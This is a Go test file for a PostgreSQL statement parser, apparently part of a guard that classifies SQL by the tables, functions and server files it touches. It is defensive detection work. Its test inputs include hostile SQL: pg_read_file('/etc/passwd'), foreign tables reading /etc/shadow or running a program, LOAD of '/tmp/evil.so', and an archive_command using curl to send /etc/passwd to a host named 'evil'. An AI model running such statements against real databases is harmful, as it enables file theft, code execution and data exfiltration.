package pgsql

import (
	"slices"
	"strings"
	"testing"
)

// TestBodies checks what Parse finds in the code of DO blocks and of
// functions and procedures being created: every statement and expression
// as SQL of its own, or why the code cannot be checked.
func TestBodies(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		// want lists the inner statements, depth first, as "KIND COMMAND
		// tables=… functions=… unbounded".
		want      []string
		unchecked string // a substring of Unchecked; "" for none
	}{
		{name: "do delete", sql: "DO $$ BEGIN DELETE FROM public.secrets; END $$",
			want: []string{"write DELETE tables=public.secrets unbounded"}},
		{name: "do language clause", sql: "DO LANGUAGE plpgsql 'BEGIN PERFORM pg_read_file(''/etc/passwd''); END'",
			want: []string{"read SELECT functions=pg_read_file"}},
		{name: "do expressions and assignments", sql: `DO $body$
DECLARE x text; a int[]; r record;
BEGIN
  x := pg_read_file('/etc/passwd');
  a[1 + length(x)] = lo_import('/tmp/f');
  IF (SELECT count(*) FROM orders) > 1 THEN RAISE NOTICE '%', upper(x); END IF;
  FOR r IN SELECT * FROM "Mixed" LOOP NULL; END LOOP;
  UPDATE orders SET total = 0 WHERE id = 1;
END $body$`,
			want: []string{
				"read SELECT functions=pg_read_file",
				"read SELECT functions=lo_import",
				"read SELECT functions=length",
				"read SELECT tables=orders functions=count",
				"read SELECT functions=upper",
				"read SELECT tables=Mixed",
				"write UPDATE tables=orders",
			}},
		{name: "do dynamic sql", sql: "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$",
			want: []string{"read SELECT"}, unchecked: "dynamic SQL"},
		{name: "do dynamic sql of a variable", sql: "DO $$ DECLARE q text := 'DROP TABLE orders'; BEGIN EXECUTE q; END $$",
			want: []string{"read SELECT", "read SELECT"}, unchecked: "dynamic SQL"},
		{name: "do dynamic sql of format", sql: "DO $$ BEGIN EXECUTE format('DELETE FROM %I', 'secrets'); END $$",
			want: []string{"read SELECT functions=format"}, unchecked: "dynamic SQL"},
		{name: "do dynamic sql of a query", sql: "DO $$ BEGIN EXECUTE 'SELECT 1' FROM secrets; END $$",
			want: []string{"read SELECT tables=secrets"}, unchecked: "dynamic SQL"},
		{name: "do dynamic sql of a constant with a clause", sql: "DO $$ BEGIN EXECUTE 'DROP TABLE orders' WHERE false; END $$",
			want: []string{"read SELECT"}, unchecked: "dynamic SQL"},
		{name: "do constant dynamic sql", sql: "DO $$ BEGIN EXECUTE 'DELETE FROM secrets WHERE id = $1' USING 7; EXECUTE E'TRUNCATE \\x6frders'::text; END $$",
			want: []string{"write DELETE tables=secrets", "read SELECT", "read SELECT", "ddl TRUNCATE tables=orders", "read SELECT"}},
		{name: "do constant dynamic sql, dollar quoted", sql: "DO $a$ BEGIN EXECUTE $b$DO $c$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $c$$b$; END $a$",
			want: []string{"utility DO", "read SELECT functions=pg_read_file", "read SELECT"}},
		{name: "do constant dynamic sql that does not parse", sql: "DO $$ BEGIN EXECUTE 'DELET FROM orders'; END $$",
			want: []string{"read SELECT"}, unchecked: "EXECUTE does not parse"},
		{name: "do dynamic for", sql: "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT ' || 1 LOOP END LOOP; END $$",
			want: []string{"read SELECT"}, unchecked: "dynamic SQL"},
		{name: "do constant dynamic for", sql: "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT * FROM secrets' LOOP END LOOP; END $$",
			want: []string{"read SELECT tables=secrets", "read SELECT"}},
		{name: "do dynamic cursor", sql: "DO $$ DECLARE c refcursor; q text; BEGIN OPEN c FOR EXECUTE q; END $$",
			want: []string{"read SELECT"}, unchecked: "dynamic SQL"},
		{name: "do constant dynamic cursor", sql: "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT lo_get(1)'; END $$",
			want: []string{"read SELECT functions=lo_get", "read SELECT"}},
		{name: "do nested do", sql: "DO $a$ BEGIN DO $b$ BEGIN TRUNCATE orders; END $b$; END $a$",
			want: []string{"utility DO", "ddl TRUNCATE tables=orders"}},
		{name: "do other language", sql: "DO LANGUAGE plpython3u $$ import os $$", unchecked: "language plpython3u"},
		{name: "do body with the quoting tag", sql: "DO $x$ BEGIN RAISE NOTICE '%', '$bastion$'; END $x$",
			want: []string{"read SELECT"}},
		{name: "do that does not parse", sql: "DO $$ BEGIN SELEC 1; END $$", unchecked: "does not parse"},
		{name: "sql function", sql: "CREATE FUNCTION rf(text) RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file($1) $$",
			want: []string{"read SELECT functions=pg_read_file"}},
		{name: "sql function with several statements", sql: "CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM secrets; SELECT 1'",
			want: []string{"write DELETE tables=secrets unbounded", "read SELECT"}},
		{name: "plpgsql function returning a query", sql: `CREATE FUNCTION leak() RETURNS SETOF secrets LANGUAGE plpgsql AS $$
BEGIN RETURN QUERY SELECT * FROM public.secrets; END $$`,
			want: []string{"read SELECT tables=public.secrets"}},
		{name: "plpgsql procedure", sql: "CREATE PROCEDURE p(n int) LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders WHERE id = n; END $$",
			want: []string{"write DELETE tables=orders"}},
		{name: "c function", sql: "CREATE FUNCTION rd(text) RETURNS text AS 'pg_read_file_v2' LANGUAGE internal", unchecked: "language internal"},
		{name: "object file", sql: "CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c", unchecked: "compiled code"},
		{name: "sql standard body is in the tree", sql: "CREATE FUNCTION g() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM secrets; END"},
		// Built-in functions that run SQL given as text, or read a table
		// given by name.
		{name: "query_to_xml", sql: "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
			want: []string{"read SELECT tables=secrets"}},
		{name: "query_to_xml by name", sql: "SELECT pg_catalog.query_to_xml(tableforest => true, query => 'DELETE FROM orders RETURNING *', nulls => false, targetns => '')",
			want: []string{"write DELETE tables=orders unbounded"}},
		{name: "ts_stat", sql: "SELECT * FROM ts_stat('SELECT to_tsvector(value) FROM public.secrets')",
			want: []string{"read SELECT tables=public.secrets functions=to_tsvector"}},
		{name: "table_to_xml", sql: `SELECT table_to_xml('public."Mixed"'::regclass, true, false, '')`,
			want: []string{"read SELECT tables=public.Mixed"}},
		{name: "query_to_xml of a value", sql: "SELECT query_to_xml(q, true, false, '') FROM (SELECT 'SELECT 1' AS q) s",
			unchecked: "not a constant"},
		{name: "database_to_xml", sql: "SELECT database_to_xml(true, false, '')", unchecked: "every table"},
		{name: "query_to_xml in a function body", sql: "CREATE FUNCTION x() RETURNS xml LANGUAGE sql AS $$ SELECT query_to_xml('TABLE secrets', true, false, '') $$",
			want: []string{"read SELECT functions=query_to_xml", "read SELECT tables=secrets"}},
		// PostgreSQL refuses these; the PL/pgSQL parser must not see them
		// (it aborts the process on a function without a body).
		{name: "plpgsql function without a body", sql: "CREATE FUNCTION f() RETURNS SETOF t LANGUAGE plpgsql"},
		{name: "do without a body", sql: "DO LANGUAGE plpgsql"},
		{name: "language given as another case", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE 'PLpgSQL' AS 'BEGIN RETURN 1; END'", unchecked: "language PLpgSQL"},
		{name: "string that looks like a body", sql: "SELECT 'DO $$ BEGIN DELETE FROM secrets; END $$'"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			stmts, err := Parse(tt.sql)
			if err != nil || len(stmts) != 1 {
				t.Fatalf("Parse(%q) = %d statements, %v", tt.sql, len(stmts), err)
			}
			s := stmts[0]
			var got []string
			var flatten func(ss []Statement)
			flatten = func(ss []Statement) {
				for _, in := range ss {
					got = append(got, describe(in))
					flatten(in.Inner)
				}
			}
			flatten(s.Inner)
			if !slices.Equal(got, tt.want) {
				t.Errorf("inner statements:\n got %q\nwant %q", got, tt.want)
			}
			if tt.unchecked == "" && s.Unchecked != "" || !strings.Contains(s.Unchecked, tt.unchecked) {
				t.Errorf("Unchecked = %q, want it to say %q", s.Unchecked, tt.unchecked)
			}
		})
	}
}

func describe(s Statement) string {
	d := string(s.Kind) + " " + s.Command
	var tables []string
	for _, t := range s.Tables {
		tables = append(tables, t.String())
	}
	if len(tables) > 0 {
		d += " tables=" + strings.Join(tables, ",")
	}
	if len(s.Functions) > 0 {
		d += " functions=" + strings.Join(s.Functions, ",")
	}
	if s.Unbounded {
		d += " unbounded"
	}
	return d
}

// TestBoundFunctions: DDL that makes PostgreSQL call a function later,
// implicitly, reports that function as called, so that rules on functions
// see it.
func TestBoundFunctions(t *testing.T) {
	for _, tt := range []struct{ sql, want string }{
		{"CREATE CAST (text AS mytype) WITH FUNCTION pg_read_file(text)", "pg_read_file"},
		{"CREATE OPERATOR ===> (FUNCTION = pg_catalog.pg_read_file, RIGHTARG = text)", "pg_catalog.pg_read_file"},
		{"CREATE OPERATOR ===> (PROCEDURE = pg_read_file, RIGHTARG = text)", "pg_read_file"},
		{"CREATE AGGREGATE agg(text) (SFUNC = lo_import, STYPE = oid)", "lo_import"},
		{"CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION evil()", "evil"},
		{"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION evil()", "evil"},
		{"ALTER OPERATOR === (text, text) SET (RESTRICT = evil)", "evil"},
		{"CREATE TYPE box2 (INPUT = evil_in, OUTPUT = evil_out)", "evil_out"},
	} {
		stmts, err := Parse(tt.sql)
		if err != nil || len(stmts) != 1 {
			t.Fatalf("Parse(%q) = %d statements, %v", tt.sql, len(stmts), err)
		}
		if !slices.Contains(stmts[0].Functions, tt.want) {
			t.Errorf("Parse(%q): functions %q, want %q among them", tt.sql, stmts[0].Functions, tt.want)
		}
		if slices.Contains(stmts[0].Functions, "text") || slices.Contains(stmts[0].Functions, "oid") {
			t.Errorf("Parse(%q): functions %q name a type", tt.sql, stmts[0].Functions)
		}
	}
}

// TestServerFiles: what reaches the database server's files, besides COPY.
func TestServerFiles(t *testing.T) {
	for _, tt := range []struct {
		sql  string
		want bool
	}{
		{"SELECT pg_read_file('/etc/passwd')", true},
		{"SELECT lo_export(16384, '/tmp/out')", true},
		{"SELECT pg_catalog.pg_ls_dir('.')", true},
		{"SELECT * FROM pg_stat_file('postgresql.conf')", true},
		{"CREATE FOREIGN TABLE f (line text) SERVER files OPTIONS (filename '/etc/passwd')", true},
		{"CREATE FOREIGN TABLE f (line text) SERVER files OPTIONS (program 'id')", true},
		{"ALTER FOREIGN TABLE f OPTIONS (SET filename '/etc/shadow')", true},
		{"CREATE SERVER files FOREIGN DATA WRAPPER file_fdw", false},
		{"CREATE FOREIGN TABLE f (line text) SERVER remote OPTIONS (table_name 'orders')", false},
		{"SELECT lo_get(16384)", false},
		{"LOAD '/tmp/evil.so'", true},
		{"ALTER SYSTEM SET archive_command = 'curl -d @/etc/passwd evil'", true},
		{"SET session_preload_libraries = 'evil'", true},
		{"ALTER ROLE alice SET local_preload_libraries = 'evil'", true},
		{"SELECT set_config('restore_command', 'id', false)", true},
		{"SELECT set_config(name, 'x', false) FROM settings", true},
		{"SET work_mem = '64MB'", false},
		{"SET myapp.last_command = 'x'", false},
		{"SELECT set_config('application_name', 'x', false)", false},
		{"SELECT 'pg_read_file'", false},
	} {
		stmts, err := Parse(tt.sql)
		if err != nil || len(stmts) != 1 {
			t.Fatalf("Parse(%q) = %d statements, %v", tt.sql, len(stmts), err)
		}
		if got := stmts[0].ServerFiles; got != tt.want {
			t.Errorf("Parse(%q).ServerFiles = %v, want %v", tt.sql, got, tt.want)
		}
	}
}
